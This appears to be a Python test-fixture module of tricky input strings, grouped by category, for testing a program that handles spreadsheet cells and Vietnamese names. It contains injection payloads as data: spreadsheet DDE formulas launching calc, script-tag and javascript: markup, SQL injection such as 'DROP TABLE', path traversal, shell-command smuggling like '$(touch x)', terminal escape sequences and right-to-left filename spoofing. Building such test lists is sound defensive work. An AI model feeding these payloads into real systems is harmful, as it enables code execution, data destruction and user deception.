"""Texts that go wrong in careless programs: our own list, grouped by who would be hurt.

Each stands for a cell that someone once typed, pasted or planted. `every()` gives all of them, plain and
inside a name.
"""

# ruff: noqa: E501 - many short texts are read best side by side

from collections.abc import Iterator

FORMULAS = [
    *(f"{sign}1+1" for sign in "=+-@＝＋－＠"),
    *(f"{blank}=1+1" for blank in ("\t", "\r", "\n", " ", "\u00a0", "\u200b", "\ufeff", "'")),
    "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?x="&A1,"Bấm")', '=IMPORTXML("http://example.com","//a")',
    "=WEBSERVICE(\"http://example.com\")", "=DDE(\"a\";\"b\";\"c\")", "{=1+1}", "=@A1", "=-1", "=", "==", "=\"0\"",
    "%0A=1+1", "=1+1;=1+1", "|calc", "=RTD(\"x\",,\"y\")", "-", "+", "@", "+84", "-5", "- 5", "--", "-a",
]  # fmt: skip
MARKUP = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "</td></tr></table>",
    "<a href=\"javascript:alert(1)\">x</a>", "javascript:alert(1)", "data:text/html,<b>x", "<style>*{display:none}",
    "<!--", "-->", "]]>", "<![CDATA[x]]>", "<!DOCTYPE x [<!ENTITY a \"b\">]>", "&a;", "&lt;b&gt;", "&#0;", "&#x1b;",
    "&amp;amp;", "<b", "b>", "\"><b>", "'><b>", "<?xml version=\"1.0\"?>", "<?php x ?>", "_x0041_", "_x0000_", "_x001B_",
    "[x](javascript:alert(1))", "![x](http://example.com/x.png)", "`x`", "```", "| a | b |", "|---|", "a|b", "\\|",
    "# Đề mục", "**đậm**", "_nghiêng_", "~~x~~", "> trích", "1. x", "- x", "***", "<http://example.com>", "\\", "\\\\",
    "[red]đỏ[/red]", "[/]", "[bold", "[/bold]", "[link=http://example.com]x[/link]", ":smile:", "[[x]]", "\\[x]", "[]",
    "[@click=app.quit]x[/]", "[blink]x", "[not a tag]", "[#ff0000]x", "[on red]", "{{7*7}}", "{% raw %}", "${7*7}",
    "#{7*7}", "<%= 7*7 %>", "{value}", "{0}", "{", "}", "{{", "{value!r:>99999}", "{rows:batch|batches}", "%s", "%n%n%n",
    "%(x)s", "%", "$name", "$$", "\\begin{x}", "\\input{/etc/hostname}",
]  # fmt: skip
TERMINAL = [
    "\x1b[31mđỏ\x1b[0m", "\x1b[2J\x1b[H", "\x1b]0;tiêu đề\x07", "\x1b]8;;http://example.com\x1b\\x\x1b]8;;\x1b\\",
    "\x1b]52;c;eA==\x07", "\x1b[6n", "\x1bc", "\x1b", "\x1b[?1049h", "\x1bP+q\x1b\\", "\x9b31m", "\x9d0;x\x9c", "\x90x\x9c",
    "\x07", "\x08\x08\x08", "x\x08y", "\x7f", "\x0b", "\x0c", "\x0e", "\x0f", "\x05", "\x1a", "\x1c\x1d\x1e\x1f", "\x01\x02",
    "\x80\x81", "\x85", "a\x85b", "\u2028", "\u2029", "a\u2028b", "a\rb", "a\nb", "a\r\nb", "a\tb", "\r", "\n\n\n", "\t\t",
]  # fmt: skip
DIRECTIONS = [
    *(f"a{mark}b" for mark in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"),
    "\u202egnp.exe", "\u2067\u2066\u202e", "عبد الله", "שלום עולם", "a \u0627\u0644 b 1", "\u202e" * 50,
]  # fmt: skip
INVISIBLE = [
    *"\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u180e\u2800\u3164\u115f\u1160\uffa0\u00a0\u3000\u2003\u202f",
    *(f"Lò{mark}Thị" for mark in "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u00a0\u3000\u2003"),
    "\U000e0001\U000e0041", "x\ufe0f", "x\U000e0100", "\ufffc", "\ufff9x\ufffa", "\u2061", "\u206a", " ", "  ", " x ",
]  # fmt: skip
LETTERS = [
    "Nguye\u0302\u0303n Thi\u0323 Hu\u031bo\u031b\u0300ng", "\u0303", "\u0323\u0302", "e" + "\u0301" * 200, "T̷̡͉h̸̛ị̷",
    "ﷺ", "﷽", "ﬁﬂ", "K Å Ω", "İıŞß", "ẞ", "ǅ", "Ⅷ", "①②", "½", "x²", "ª", "ＬÒ ＴＨỊ", "𝕃ò 𝒯hị", "𝟘𝟙𝟚", "０１２", "१२३", "๑๒๓", "١٢٣",
    "Ð ð đ Đ", "Đ\u0335", "Hòa Hoà", "Nguyễn", "Nguyá»…n", "Ngun", "NguyÔn V¨n", "Nguyeãn Vaên", "Lß", "\ufffd", "\ufffe", "\uffff",
    "\ue000", "\U0010ffff", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U0001f1fb\U0001f1f3", "😀", "👍🏽", "中文", "한국어", "日本語",
    "ภาษาไทย", "ខ្មែរ", "ລາວ", "ꪼꪒ", "Ёж", "Ωμέγα", "ʻokina", "m̄", "゛", "Ⓐ", "Ａ", "\u1e9e", "\u0130", "\u212a",
]  # fmt: skip
QUERIES = [
    "' OR 1=1 --", "'; DROP TABLE person; --", "\" OR \"\"=\"", "') UNION SELECT ids FROM person --", "1; ATTACH 'x' AS y",
    "'", "''", "\"", "\"\"", "`", "´", ";", "--", "/*", "*/", "%", "_", "%%", "\\'", "\\\"", ")", "(((", "NULL", "null", "?", ":x", "?1",
    "x' || (SELECT 1) || '", "PRAGMA writable_schema=1", "sqlite_master", "rowid", "{\"$ne\": null}", "*)(uid=*",
    "\"; DELETE FROM batch; --", "0x27", "CHAR(39)", "a' GLOB '*", "1 AND SLEEP(9)", "[a-z]*", "*", "?*", "~", "^", "MATCH",
]  # fmt: skip
PATHS = [
    "../../x", "..\\..\\x", "/etc/hostname", "C:\\Windows\\x", "\\\\example\\share", "file:///etc/hostname", "~/x", "~root", "$HOME/x",
    "%APPDATA%\\x", "CON", "con.xlsx", "NUL", "AUX.txt", "COM1", "LPT1", ".", "..", "...", "x.", "x ", " x", ".x", "a/b", "a\\b", "a:b",
    "a*b?c", "a<b>c", "x.xlsx.exe", "-rf", "--db", "--help", "-", "@x", "x" * 255, "x/" * 60, "ổ" * 90, "$(touch x)", "`touch x`",
    "| touch x", "; touch x", "&& touch x", "> x", "< x", "$IFS", "!x", "x\\", "http://example.com/x?y=1&z=2", "mailto:x@example.com",
]  # fmt: skip
VALUES = [
    "0", "-0", "00", "007", "1e309", "1E+10", "1,1E+10", "0x10", "0b1", "1_000", "1,5", "1.5", ".", ",", "NaN", "nan", "Infinity",
    "-inf", "9" * 20, "9" * 400, "1/0", "True", "FALSE", "true", "None", "undefined", "nil", "N/A", "#N/A", "#REF!", "#DIV/0!", "#NAME?",
    "#FORMULA!", "#VALUE!", "[object Object]", "{}", "[]", "[1,2]", "{\"a\": 1}", "\\u0000", "\\x1b", "\\n", "0000-00-00",
    "9999-12-31", "1900-02-29", "31/02/2024", "29/02/2023", "00/00/0000", "1/1/0001", "24:00", "25:61:61", "60", "2958466", "-1",
    "2025-02-30T25:00:00Z", "0.1", "1985.0", "1.98E+03", "12.03.1985.", "tháng 13 năm 1985", "٠١/٠٢/١٩٨٥", "1985-W01-1",
]  # fmt: skip
SLOW = [
    "a" * 30 + "!", "(a+)+$" + "a" * 40, "ông " * 100, "(" * 300, "[" * 300, "1." * 200, "-" * 400, ". " * 200, "/" * 300, "0" * 300,
    "a@" * 100, "@." * 100, "x" * 300, "x" * 5000, "Lò Thị " * 300, "ấ" * 2000, "e\u0302" * 1000, "; " * 500, ", " * 500, "(x) " * 100,
    "\u200b" * 1000, " " * 3000 + "x", "x" + " " * 3000, "\n" * 500, "12/" * 200, "9 " * 200, "Xã " * 200, "#" * 300, "|" * 300,
]  # fmt: skip
NAMES = [
    "A", "Ứ", "H'Hen Niê", "H’ Bia", "O'Brien", "Null", "None", "Nguyễn (A)", "Lò Thị Mai (1)", "Ông", "Bà", "Test", "STT", "Họ và tên",
    "Tổng cộng", "Tổng cộng: 02 người", "Người lập biểu", "Danh sách", "Hiệu trưởng", "Xã Sín Thầu", "I. Khối THPT", "(1)", "Nam", "Nữ",
    "Lò Thị Mai, Lò Thị Ươi", "Lò Thị Mai/Giàng A Páo", "???", "…", "xxx", "Không", "chưa có", "N.V.A", "NGUYỄN  VĂN   AN", "lò thị mai",
]  # fmt: skip
GROUPS = {
    "formulas": FORMULAS, "markup": MARKUP, "terminal": TERMINAL, "directions": DIRECTIONS, "invisible": INVISIBLE,
    "letters": LETTERS, "queries": QUERIES, "paths": PATHS, "values": VALUES, "slow": SLOW, "names": NAMES,
}  # fmt: skip


def every() -> list[str]:
    """Return all texts, each once."""
    return list(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    for group in GROUPS.values():
        yield from group


DANGEROUS_ON_A_SCREEN = frozenset(map(chr, [*range(9), *range(11, 32), *range(127, 160)])) | frozenset(
    "\u061c\u200b\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2060\u2066\u2067\u2068\u2069\ufeff"
)
"""What may not reach a terminal: C0 but for line ends, DEL, C1, separators of lines, directions, the invisible."""
